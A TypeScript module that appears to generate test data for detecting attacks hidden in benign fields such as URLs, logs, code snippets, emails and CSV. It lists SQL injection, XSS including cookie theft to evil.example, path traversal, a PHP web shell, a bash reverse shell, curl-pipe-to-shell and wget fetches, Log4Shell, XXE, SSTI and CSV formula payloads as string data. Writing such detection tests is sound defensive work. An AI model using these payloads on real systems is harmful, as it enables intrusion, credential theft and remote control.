import { type Lot, lotOf } from '../uploads.ts';
import { programOf } from './code.ts';
import { configOf, logOf, traceOf } from './documents.ts';
import { fill, pick } from './template.ts';
import { addressOf, mailOf, richTextOf, svgOf, tableOf } from './web.ts';
import { words } from './words.ts';

/** An attack in the place of benign data. */
export interface HiddenAttack {
  readonly name: string;
  readonly body: Readonly<Record<string, unknown>>;
}

/** The attack of a number: all places in turn. */
export function attackOf(index: number): HiddenAttack {
  const lot = lotOf(0x85ebca6b * (index + 1));
  for (let warm = 0; warm < 8; warm++) lot.below(2);
  const [name, make] = attacks[index % attacks.length] as Attack;
  return { name, body: make(lot) };
}

type Attack = readonly [string, (lot: Lot) => Record<string, unknown>];

const sql = [
  "' UNION SELECT password FROM users -- ",
  "x' OR 1=1 -- ",
  "'; DROP TABLE users; -- ",
  "' AND (SELECT SLEEP(5)) -- ",
];
const markup = [
  '<script>fetch("//evil.example/"+document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(document.domain)">here</a>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
];
const shell = ['$(curl http://evil.example/x|sh)', '; cat /etc/passwd', '`wget evil.example/a`'];

const say = (lot: Lot, template: string): string => fill(lot, template, words);
const escaped = (text: string): string => encodeURIComponent(text);
const python = (lot: Lot): string => programOf(lot, (name) => name === 'python').text;

/** A program whose quotes are all closed. */
const program = 'import os\n\nname = "a"\nfor x in range(3):\n    print(x)\n';
const message = 'This is my query and it fails since yesterday.';

const attacks: readonly Attack[] = [
  [
    'search in an address',
    (lot) => ({ event: { url: `https://shop.example/search?q=${escaped(pick(lot, sql))}` } }),
  ],
  [
    'markup in a referrer',
    (lot) => ({
      event: {
        url: addressOf(lot),
        referrer: `https://a.example/?q=${escaped(pick(lot, markup))}`,
      },
    }),
  ],
  ['file in an address', () => ({ url: 'https://a.example/?file=../../../../etc/passwd' })],
  ['script as an address', () => ({ link: 'javascript:void(0)+alert(document.cookie)' })],
  ['break-out in an address', () => ({ url: "https://a.example/';alert(document.cookie)//" })],
  ['rich text', (lot) => ({ page: { html: richTextOf(lot) + pick(lot, markup) } })],
  [
    'editor document',
    (lot) => ({ delta: { ops: [{ insert: say(lot, '«noun» ') }, { insert: pick(lot, markup) }] } }),
  ],
  [
    'SQL in an editor',
    (lot) => ({ content: [{ content: [{ type: 'text', text: pick(lot, sql) }] }] }),
  ],
  ['break-out behind a program', (lot) => ({ code: `${program}${pick(lot, sql)}` })],
  [
    'break-out behind a decoy',
    () => ({
      code: `import os\nname = 'a';\nDROP TABLE a;\nimport sys\nx' UNION SELECT password FROM users -- `,
    }),
  ],
  ['numeric code', () => ({ code: '1;\nDROP TABLE users;\nSELECT 1;' })],
  [
    'query as a code',
    () => ({ code: 'SELECT password\nFROM users\nUNION SELECT secret FROM keys' }),
  ],
  [
    'short code',
    (lot) => ({
      code: pick(lot, [
        "system('id');",
        "__import__('os').system('id')",
        '<?php eval($_POST["x"]);',
      ]),
    }),
  ],
  [
    'web shell in a file',
    () => ({ files: [{ name: 'a.php', content: "<?php\n\nsystem($_GET['c']);\n\n?>" }] }),
  ],
  ['markup in a program', (lot) => ({ snippet: { code: `${program}${pick(lot, markup)}` } })],
  [
    'shell for somebody else in a script',
    () => ({ code: '#!/bin/sh\nset -e\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' }),
  ],
  ['source field that is none', (lot) => ({ source: `newsletter${pick(lot, sql)}` })],
  ['promotion code', (lot) => ({ couponCode: `import os\nx = 1\ny = 2\n${pick(lot, shell)}` })],
  [
    'SQL in a fence',
    (lot) => ({ message: { text: `${message}\n\n\`\`\`sql\n${pick(lot, sql)}\n\`\`\`` } }),
  ],
  [
    'markup in a fence',
    (lot) => ({ text: `${message}\n\n\`\`\`html\n${pick(lot, markup)}\n\`\`\`` }),
  ],
  ['fence without words', () => ({ text: '1\n```\n UNION SELECT password FROM users -- ' })],
  [
    'template in a fence',
    () => ({
      text: `${message}\n\n\`\`\`\n{{ ''.__class__.__mro__[1].__subclasses__() }}\n\`\`\``,
    }),
  ],
  [
    'file in a fence',
    () => ({ text: `${message}\n\n\`\`\`\n../../../../../../etc/passwd\n\`\`\`` }),
  ],
  [
    'decoy in a fence',
    () => ({
      text: `${message}\n\n\`\`\`sql\nSELECT 1; DROP TABLE a;\nx'; DROP TABLE users; -- \n\`\`\``,
    }),
  ],
  [
    'trace',
    (lot) => ({ error: { stackTrace: `${traceOf(lot).stack}\n\${jndi:ldap://evil.example/a}` } }),
  ],
  ['log', (lot) => ({ log: `${logOf(lot)}\n${pick(lot, markup)}` })],
  [
    'settings',
    (lot) => ({
      config: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>\n${configOf(lot).text}`,
    }),
  ],
  [
    'mail',
    (lot) => ({
      email: { subject: say(lot, '«noun»\r\nBcc: all@evil.example'), text: mailOf(lot) },
    }),
  ],
  [
    'variable of a query',
    (lot) => ({
      query: 'query Q($q: String!) { search(q: $q) { id } }',
      variables: { q: pick(lot, sql) },
    }),
  ],
  [
    'nested JSON',
    (lot) => ({
      payload: JSON.stringify({
        text: say(lot, '«noun»'),
        by: JSON.stringify({ name: pick(lot, sql) }),
      }),
    }),
  ],
  ['drawing', (lot) => ({ icon: { svg: svgOf(lot).replace('<svg ', '<svg onload="alert(1)" ') } })],
  ['table', (lot) => ({ csv: `${tableOf(lot)}=cmd|' /C calc'!A0\n` })],
  ['command in a search', (lot) => ({ search: `shoes${pick(lot, shell)}` })],
  ['download in a search', () => ({ q: 'wget http://evil.example/a.sh' })],
  ['notebook', (lot) => ({ cells: [{ source: [python(lot).split('\n')[0], pick(lot, markup)] }] })],
];

/** How many places there are. */
export const placeCount: number = attacks.length;
